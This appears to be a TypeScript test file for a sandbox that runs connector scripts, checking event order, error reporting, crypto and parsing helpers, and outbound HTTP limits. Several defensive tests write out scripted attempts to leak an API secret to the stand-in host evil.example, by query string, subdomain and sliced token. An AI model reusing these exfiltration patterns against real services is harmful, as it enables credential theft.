import { afterAll, describe, expect, it } from "vitest";
import { Placeholders } from "./placeholders";
import { closeScripts } from "./pool";
import { evaluateExpression, runEvent, testScript, type EventInput } from "./run";
import type { ScriptError, ScriptRequest, ScriptResponse } from "./types";

afterAll(closeScripts);

const connector = (source: string, more: Partial<EventInput> = {}) =>
  runEvent({ event: "before_action", scripts: { connector: source }, ...more });

async function value(source: string, more: Partial<EventInput> = {}): Promise<unknown> {
  const result = await connector(
    `function before_action() { method_response = (function () { ${source} })(); return true; }`,
    more,
  );
  if (!result.ok) throw new Error(result.error.message);
  return result.value.variables.method_response;
}

describe("events", () => {
  it("runs the bearer script, and its secret leaves for the allowed host only", async () => {
    const placeholders = new Placeholders();
    const script = `function before_action() {
    method_request_headers.Authorization = 'Bearer ' + method_auth_value;
    return true;
}`;
    const result = await connector(script, {
      placeholders,
      variables: {
        method_auth_value: placeholders.mark("the-api-key/1"),
        method_request_headers: { Accept: "application/json" },
      },
    });
    if (!result.ok) throw new Error(result.error.message);
    const headers = result.value.variables.method_request_headers as Record<string, string>;
    expect(JSON.stringify(result.value)).not.toContain("the-api-key");
    const leaving = { url: "https://api.example.com/v1", headers, body: null };
    const allowed = (url: URL) => url.hostname === "api.example.com";
    expect(placeholders.substitute(leaving, allowed)).toMatchObject({
      ok: true,
      value: { headers: { Authorization: "Bearer the-api-key/1", Accept: "application/json" } },
    });
    expect(placeholders.substitute({ ...leaving, url: "https://evil.example/" }, allowed)).toMatchObject({
      ok: false,
      error: { code: "egress.blocked" },
    });
  });

  it.each([
    ["before_action", ["method", "connector", "step"]],
    ["before_webhook", ["method", "connector", "step"]],
    ["before_oauth2_token", ["method", "connector", "step"]],
    ["after_action", ["connector", "method", "step"]],
    ["after_error", ["connector", "method", "step"]],
    ["action_condition", ["connector", "method", "step"]],
  ] as const)("runs %s in the order %j", async (event, order) => {
    const script = (level: string) => `function ${event}() { action_data.order.push("${level}"); return true; }`;
    const scripts = { connector: script("connector"), method: script("method"), step: script("step") };
    const result = await runEvent({ event, scripts, variables: { action_data: { order: [] } } });
    expect(result).toMatchObject({ ok: true, value: { signal: "continue", ran: order, variables: { action_data: { order } } } });
  });

  it("keeps what the levels name alike apart", async () => {
    const script = (mark: string) =>
      `var prefix = "${mark}"; function add() { method_request += prefix; } function before_action() { add(); return true; }`;
    const result = await runEvent({
      event: "before_action",
      scripts: { connector: script("c"), method: script("m"), step: script("s") },
      variables: { method_request: "" },
    });
    expect(result).toMatchObject({ ok: true, value: { variables: { method_request: "mcs" } } });
  });

  it("stops where a function returns false, and runs no further level", async () => {
    const result = await runEvent({
      event: "before_action",
      scripts: {
        method: "function before_action() { return false; }",
        connector: "function before_action() { method_endpoint = 'x'; return true; }",
      },
    });
    expect(result).toMatchObject({ ok: true, value: { signal: "stop", returned: false, ran: ["method"] } });
  });

  it("fails with the message that was thrown, its level and its line", async () => {
    const result = await connector("// one\nfunction before_action() {\n  throw new Error('Missing ' + 'phone');\n}");
    expect(result).toMatchObject({
      ok: false,
      error: {
        code: "script.failed",
        message: "Missing phone (connector, line 3)",
        details: { error: { kind: "error", message: "Missing phone", level: "connector", line: 3 } },
      },
    });
    expect(await connector("function before_action() { throw 'plain text'; }")).toMatchObject({
      ok: false,
      error: { message: "plain text" },
    });
  });

  it.each([
    ["function before_action() {\n  let x = ;\n}", 2],
    ["function before_action() {\n\n", null],
    ["}); (function () {\nfunction before_action() { return true; }", 1],
  ])("reports a syntax error with its line: %j", async (source, line) => {
    const result = await connector(source);
    expect(result).toMatchObject({ ok: false, error: { details: { error: { kind: "syntax", level: "connector" } } } });
    if (!result.ok && line !== null) expect((result.error.details?.["error"] as ScriptError).line).toBe(line);
  });

  it("signals AuthRefreshException and AuthSessionException", async () => {
    const script = (name: string) =>
      `function after_action() { if (method_response.error === 'invalid_grant') throw new ${name}(); return true; }`;
    const run = (name: string, error: string) =>
      runEvent({ event: "after_action", scripts: { connector: script(name) }, variables: { method_response: { error } } });
    expect(await run("AuthRefreshException", "invalid_grant")).toMatchObject({ ok: true, value: { signal: "refresh" } });
    expect(await run("AuthSessionException", "invalid_grant")).toMatchObject({ ok: true, value: { signal: "session" } });
    expect(await run("AuthRefreshException", "none")).toMatchObject({ ok: true, value: { signal: "continue" } });
  });

  it("does not start a thread for an event that no script has", async () => {
    expect(await connector("function after_action() {}", { variables: { method_endpoint: "/x" } })).toEqual({
      ok: true,
      value: { signal: "continue", returned: null, variables: { method_endpoint: "/x" }, console: [], ran: [] },
    });
  });

  it("captures the console, masked", async () => {
    const placeholders = new Placeholders();
    const result = await connector(
      "function before_action() { console.log('key', method_auth_value, { a: [1] }, undefined, null); return true; }",
      {
        placeholders,
        variables: { method_auth_value: placeholders.mark("s3cret:value") },
      },
    );
    expect(result).toMatchObject({ ok: true, value: { console: ['key ••••:•••• {"a":[1]} undefined null'] } });
  });

  it("keeps a context's state for its key alone", async () => {
    const script =
      "function before_action() { globalThis.count = (globalThis.count || 0) + 1; method_response = count; return true; }";
    const count = async (contextKey?: string) => {
      const result = await connector(script, contextKey === undefined ? {} : { contextKey });
      return result.ok ? result.value.variables.method_response : result.error;
    };
    expect([await count("run-1"), await count("run-1"), await count("run-2"), await count(), await count()]).toEqual([
      1, 2, 1, 1, 1,
    ]);
  });
});

describe("functions", () => {
  it("encodes base64 in the documented character sets", async () => {
    expect(
      await value(
        "return [btoa('Hĕllō Wōrld'), btoa('Hĕllō Wōrld', 'ascii'), btoa('Hĕllō Wōrld', 'iso-8859-1'), btoa('apple pie')]",
      ),
    ).toEqual(["SMSVbGzFjSBXxY1ybGQ=", "SD9sbD8gVz9ybGQ=", "SGVsbG8gV29ybGQ=", "YXBwbGUgcGll"]);
    expect(
      await value(
        "return [atob('SMSVbGzFjSBXxY1ybGQ='), atob(btoa('ümlaut', 'utf-16be'), 'utf-16be'), atob(btoa('x€', 'utf-16'), 'UTF-16LE')]",
      ),
    ).toEqual(["Hĕllō Wōrld", "ümlaut", "x€"]);
  });

  it("signs with HMAC and RSA", async () => {
    // RFC 4231, test case 2.
    const signed = await value("return cyclr_sign('HMAC-SHA256', 'Jefe', 'what do ya want for nothing?', 'hex')");
    expect(signed).toBe("5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
    expect(await value("return cyclr_sign('HMAC-SHA1', 'key', 'The quick brown fox jumps over the lazy dog')")).toBe(
      "3nybhbi3iqa8ino29wqQcBydtNk=",
    );
    await expect(value("return cyclr_sign('HMAC-MD5', 'k', 'v')")).rejects.toThrow("doesn't know the algorithm");
  });

  it("reads CSV and XML, and writes XML", async () => {
    expect(await value("return cyclr_csv_parse('1,2\\na,\"b,c\"', ',', false)")).toEqual([
      { Field1: "1", Field2: "2" },
      { Field1: "a", Field2: "b,c" },
    ]);
    expect(await value("return cyclr_csv_parse('id;name\\n1;Ann', ';', true)")).toEqual([{ id: "1", name: "Ann" }]);
    expect(await value("return cyclr_xml_serialize({ note: { to: 'Tove & Co', '@id': '1' } })")).toBe(
      '<note id="1"><to>Tove &amp; Co</to></note>',
    );
    expect(await value("return cyclr_xml_deserialize('<note id=\"1\"><to>Tove</to><to>007</to></note>')")).toEqual({
      note: { "@id": "1", to: ["Tove", "007"] },
    });
    await expect(value(`return cyclr_xml_deserialize('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')`)).rejects.toThrow(
      "document type",
    );
    await expect(value("return cyclr_xml_deserialize('<a><b></a>')")).rejects.toThrow("can't be read");
  });

  it("has moment with time zones and crypto-js", async () => {
    expect(await value("return moment.tz('2026-03-04T12:00:00Z', 'America/New_York').format('YYYY-MM-DD HH:mm z')")).toBe(
      "2026-03-04 07:00 EST",
    );
    expect(await value("return CryptoJS.HmacSHA256('what do ya want for nothing?', 'Jefe').toString()")).toBe(
      "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843",
    );
    expect(
      await value(
        "var c = CryptoJS.AES.encrypt('text', 'pass').toString(); return CryptoJS.AES.decrypt(c, 'pass').toString(CryptoJS.enc.Utf8)",
      ),
    ).toBe("text");
  });

  it("evaluates inline scripts", async () => {
    expect(await evaluateExpression("(100 * 2)")).toEqual({ ok: true, value: 200 });
    expect(await evaluateExpression("`` === '' ? 'no value' : ``;")).toEqual({ ok: true, value: "no value" });
    expect(await evaluateExpression("moment('2026-01-02').add(1, 'day').format('DD.MM.YYYY')")).toEqual({
      ok: true,
      value: "03.01.2026",
    });
    expect(await evaluateExpression("undefined")).toEqual({ ok: true, value: null });
    expect(await evaluateExpression("nope.x")).toMatchObject({
      ok: false,
      error: { code: "script.failed", details: { error: { level: "expression", line: 1 } } },
    });
    expect(await evaluateExpression("while (true) {}", { limits: { timeMs: 200 } })).toMatchObject({
      ok: false,
      error: { details: { error: { kind: "timeout" } } },
    });
  });

  it("reports a test of a script for the page that shows it", async () => {
    const good = await testScript({
      script: "function after_action() { console.log('hi'); method_response.n += 1; return true; }",
      event: "after_action",
      variables: { method_response: { n: 1 } },
    });
    expect(good).toMatchObject({
      ok: true,
      error: null,
      console: ["hi"],
      outcome: { returned: true, variables: { method_response: { n: 2 } } },
    });
    const bad = await testScript({
      script: "function after_action() {\n console.log('before');\n nope();\n}",
      event: "after_action",
    });
    expect(bad).toMatchObject({ ok: false, outcome: null, console: ["before"], error: { line: 3, level: "connector" } });
    expect(await testScript({ script: "var a = 1;", event: "after_action" })).toMatchObject({
      ok: false,
      error: { message: "The script has no function after_action." },
    });
  });
});

describe("http_request", () => {
  const seen: ScriptRequest[] = [];
  const respond = (response: Partial<ScriptResponse> | Error) => ({
    httpRequest: (request: ScriptRequest) => {
      seen.push(request);
      return response instanceof Error
        ? Promise.reject(response)
        : Promise.resolve({ status: 200, headers: {}, text: "", ...response });
    },
  });

  it("goes through the capability and comes back at once", async () => {
    const call =
      "var r = http_request({ method: 'post', url: 'https://api.example.com/a?x=1#f', parameters: { 'q q': 'ä&' }, headers: { 'X-N': 5 }, data: { a: 1 } });";
    const result = await value(`${call} return [r.status_code, r.headers, JSON.parse(r.content).id, r.request.method];`, {
      capabilities: respond({ status: 201, headers: { a: "b" }, text: '{"id":7}' }),
    });
    expect(result).toEqual([201, { a: "b" }, 7, "POST"]);
    expect(seen.at(-1)).toMatchObject({
      method: "POST",
      url: "https://api.example.com/a?x=1&q%20q=%C3%A4%26#f",
      headers: { "X-N": "5", "Content-Type": "application/json" },
      body: '{"a":1}',
    });
  });

  it("carries secrets to allowed hosts only, and hides what is echoed", async () => {
    const placeholders = new Placeholders();
    const more = {
      placeholders,
      variables: { method_auth_value: placeholders.mark("s3cret&value") },
      allowSecretTo: (url: URL) => url.hostname === "api.example.com",
      capabilities: respond({ text: 'you sent "s3cret&value"' }),
    };
    const echoed = await value(
      "return http_request({ url: 'https://api.example.com/?key=' + method_auth_value, headers: { A: btoa('u:' + method_auth_value) } }).content",
      more,
    );
    expect(echoed).not.toContain("s3cret");
    expect(placeholders.revealAll(echoed)).toContain("s3cret&value");
    expect(seen.at(-1)).toMatchObject({
      url: "https://api.example.com/?key=s3cret%26value",
      headers: { A: Buffer.from("u:s3cret&value").toString("base64") },
    });
    const count = seen.length;
    await expect(value("return http_request({ url: 'https://evil.example/?key=' + method_auth_value })", more)).rejects.toThrow(
      "evil.example, which the connector doesn't name",
    );
    await expect(value("return http_request({ url: 'https://' + method_auth_value + '.evil.example/' })", more)).rejects.toThrow(
      "another host",
    );
    await expect(
      value("return http_request({ url: 'https://api.example.com/?k=' + method_auth_value.slice(0, 15) })", more),
    ).rejects.toThrow("took a secret apart");
    expect(seen).toHaveLength(count);
    // A host that may have no secret can't have its guesses confirmed.
    expect(await value("return http_request({ url: 'https://evil.example/' }).content", more)).toContain("s3cret&value");
  });

  it("bounds number and size, and lets a script catch a failure", async () => {
    const capabilities = respond({});
    await expect(
      value("for (;;) http_request({ url: 'https://a.example/' })", { capabilities, limits: { maxRequests: 3 } }),
    ).rejects.toThrow("may make 3 requests");
    await expect(
      value("http_request({ url: 'https://a.example/', data: 'x'.repeat(2000) })", {
        capabilities,
        limits: { maxRequestBytes: 1024 },
      }),
    ).rejects.toThrow("1 KB");
    expect(
      await value("try { http_request({ url: 'https://a.example/' }) } catch (e) { return e.message }", {
        capabilities: respond(new Error("a.example could not be reached.")),
      }),
    ).toBe("a.example could not be reached.");
    await expect(value("http_request({ url: 'https://a.example/' })")).rejects.toThrow("isn't available");
    const never = { httpRequest: () => new Promise<never>(() => undefined) };
    const started = performance.now();
    await expect(
      value("try { http_request({ url: 'https://a.example/' }) } catch (e) {} return 1", {
        capabilities: never,
        limits: { timeMs: 300 },
      }),
    ).rejects.toThrow("ran longer than 0.3 seconds");
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
